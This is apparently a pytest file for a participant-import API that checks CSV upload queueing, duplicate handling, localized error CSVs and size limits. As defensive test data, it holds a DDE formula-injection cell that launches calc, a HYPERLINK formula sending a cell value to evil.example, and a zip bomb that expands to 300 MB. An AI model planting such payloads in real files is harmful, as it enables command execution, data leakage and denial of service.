"""Imports over HTTP: upload -> 202 job -> the worker runs it -> progress, summary, errors.csv."""

from __future__ import annotations

import csv
import io
from typing import Any

from fastapi.testclient import TestClient

from turnout.bootstrap import Turnout

GOOD = "이름,이메일,휴대폰\n김민준,minjun@example.com,010-1234-5678\n이서연,seoyeon@example.com,\n"


def upload(client: TestClient, event_id: str, content: bytes, name: str = "people.csv", **form: Any) -> Any:
    form.setdefault("consent_basis", "collected_elsewhere")  # these files have no consent column
    return client.post(
        f"/api/v1/events/{event_id}/imports", files={"file": (name, content, "text/csv")}, data=form
    )


def test_upload_answers_202_and_worker_runs_the_job(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    response = upload(client, str(event["id"]), GOOD.encode("cp949"))
    assert response.status_code == 202, response.text
    job = response.json()
    assert job["status"] == "queued"
    assert job["summary"] == {"total": 0, "created": 0, "updated": 0, "duplicates": 0, "invalid": 0}
    assert turnout.importer.run_pending() == 1
    done = client.get(f"/api/v1/imports/{job['id']}").json()
    assert done["status"] == "done"
    assert done["encoding"] == "cp949"
    assert done["summary"] == {"total": 2, "created": 2, "updated": 0, "duplicates": 0, "invalid": 0}
    assert done["rows_processed"] == 2
    names = [p["name"] for p in client.get(f"/api/v1/events/{event['id']}/participants").json()["items"]]
    assert names == ["김민준", "이서연"]


def test_uploading_the_same_file_again_creates_nothing_new(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    for _ in range(2):
        assert upload(client, str(event["id"]), GOOD.encode()).status_code == 202
    assert turnout.importer.run_pending() == 2
    items = client.get(f"/api/v1/events/{event['id']}/participants").json()["items"]
    assert len(items) == 2


def test_errors_csv_lists_refused_rows_with_codes_in_the_requested_language(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    content = "이름,이메일\n김,a@example.com\n=cmd|' /C calc'!A0,b@example.com\n박서준,c@example.com\n"
    job = upload(client, str(event["id"]), content.encode()).json()
    turnout.importer.run_pending()
    response = client.get(f"/api/v1/imports/{job['id']}/errors.csv", headers={"Accept-Language": "ko"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert rows[0] == ["이름", "이메일", "행", "열", "오류 코드", "오류 내용"]
    assert rows[1][:5] == ["김", "a@example.com", "2", "이름", "name_too_short"]
    assert "2자" in rows[1][5]
    assert rows[2][0].startswith("'=")
    assert rows[2][4] == "formula_not_allowed"
    assert len(rows) == 3


def test_whole_file_refusal_marks_job_failed_with_code(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    job = upload(client, str(event["id"]), b"foo,bar\n1,2\n").json()
    turnout.importer.run_pending()
    done = client.get(f"/api/v1/imports/{job['id']}").json()
    assert done["status"] == "failed"
    assert done["error"]["code"] == "missing_column"
    assert done["error"]["params"]["column"] == "name"


def test_upload_over_the_size_limit_is_refused_with_413(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    turnout.settings.import_max_bytes = 100
    response = upload(client, str(event["id"]), b"x" * 101)
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"
    assert not list((turnout.settings.var_dir / "imports").iterdir())


def test_upload_with_bad_mapping_is_refused_before_queueing(
    client: TestClient, event: dict[str, Any]
) -> None:
    response = upload(client, str(event["id"]), GOOD.encode(), mapping="이름=nickname")
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "invalid_mapping"


def test_upload_with_mapping_and_update_policy(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    upload(client, str(event["id"]), GOOD.encode())
    turnout.importer.run_pending()
    changed = "참가자,주소,회사\n김민준 박사,minjun@example.com,한빛\n".encode()
    job = upload(
        client,
        str(event["id"]),
        changed,
        on_duplicate="update",
        mapping=["참가자=name", "주소=email", "회사=organization"],
    ).json()
    turnout.importer.run_pending()
    done = client.get(f"/api/v1/imports/{job['id']}").json()
    assert done["summary"]["updated"] == 1
    found = client.get(f"/api/v1/events/{event['id']}/participants", params={"q": "minjun"}).json()["items"]
    assert (found[0]["name"], found[0]["organization"]) == ("김민준 박사", "한빛")


def uploads_left(turnout: Turnout) -> list[str]:
    folder = turnout.settings.var_dir / "imports"
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def test_uploaded_file_is_deleted_when_its_import_ends_in_success(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    job = upload(client, str(event["id"]), GOOD.encode()).json()
    assert len(uploads_left(turnout)) == 1  # kept while the job waits to run
    turnout.importer.run_pending()
    assert client.get(f"/api/v1/imports/{job['id']}").json()["status"] == "done"
    assert uploads_left(turnout) == []


def test_uploaded_file_is_deleted_when_its_import_is_refused_or_crashes(
    client: TestClient, turnout: Turnout, event: dict[str, Any], monkeypatch: Any
) -> None:
    refused = upload(client, str(event["id"]), b"foo,bar\n1,2\n").json()
    turnout.importer.run_pending()
    assert client.get(f"/api/v1/imports/{refused['id']}").json()["status"] == "failed"
    assert uploads_left(turnout) == []

    crashed = upload(client, str(event["id"]), GOOD.encode()).json()

    def broken(*_args: Any, **_kwargs: Any) -> None:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(turnout.importer, "_save", broken)
    turnout.importer.run_pending()
    assert client.get(f"/api/v1/imports/{crashed['id']}").json()["status"] == "failed"
    assert uploads_left(turnout) == []


def test_a_file_imported_from_the_command_line_is_left_where_it_was(
    turnout: Turnout, event: dict[str, Any], tmp_path: Any
) -> None:
    path = tmp_path / "mine.csv"
    path.write_text(GOOD, encoding="utf-8")
    job = turnout.importer.import_file(
        event_id=str(event["id"]),
        path=str(path),
        filename="mine.csv",
        actor="cli",
        consent_basis="collected_elsewhere",
    )
    assert job.status.value == "done"
    assert path.exists()


def test_errors_csv_neutralises_formulas_in_every_column_when_custom_fields_carry_them(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    link = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [
            ["이름", "이메일", "=회사", "메모"],
            ["김민준", "not-an-email", link, "+1"],
            ["박서준", "c@example.com", "-2+3", "@SUM(A1)"],
            ["이서연", "bad", "\tx", "\rcmd"],
        ]
    )
    job = upload(client, str(event["id"]), buffer.getvalue().encode()).json()
    turnout.importer.run_pending()
    response = client.get(f"/api/v1/imports/{job['id']}/errors.csv")
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"), newline="")))
    assert rows[0][:4] == ["이름", "이메일", "'=회사", "메모"]
    cells = [cell for row in rows for cell in row]
    assert f"'{link}" in cells
    assert "'+1" in cells
    assert "'\tx" in cells
    assert "'\rcmd" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_an_xlsx_bomb_is_refused_at_upload_quickly_with_nothing_queued(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    import time
    import zipfile

    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<worksheet>" + b"0" * (300 * 1024 * 1024))
    assert len(bomb.getvalue()) < 1024 * 1024
    started = time.monotonic()
    response = client.post(
        f"/api/v1/events/{event['id']}/imports?lang=ko",
        files={"file": ("people.xlsx", bomb.getvalue(), "application/octet-stream")},
    )
    assert time.monotonic() - started < 1.0
    assert response.status_code == 413, response.text
    error = response.json()["error"]
    assert error["code"] == "file_too_large"
    assert "파일이 너무 큽니다" in error["message"]
    assert not list((turnout.settings.var_dir / "imports").iterdir())
    assert turnout.importer.run_pending() == 0
